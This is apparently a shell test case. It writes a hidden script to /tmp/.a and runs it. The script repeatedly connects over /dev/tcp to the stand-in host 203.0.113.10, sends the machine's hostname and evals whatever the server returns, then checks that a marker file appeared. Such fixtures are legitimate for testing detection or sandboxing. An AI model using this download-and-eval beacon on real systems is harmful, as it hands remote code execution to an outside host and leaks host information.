#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.a <<'END'
for round in 1 2 3 4 5 6; do
    exec 3<>/dev/tcp/203.0.113.10/8080
    printf 'GET /payload.sh?h=%s HTTP/1.0\r\n\r\n' "$HOSTNAME" >&3
    body=$(sed '1,/^\r*$/d' <&3)
    exec 3>&-
    test "$body" != ok || body='id >/tmp/reached'
    eval "$body"
    sleep 0.4
done
END
bash /tmp/.a
test -e /tmp/reached
took_place
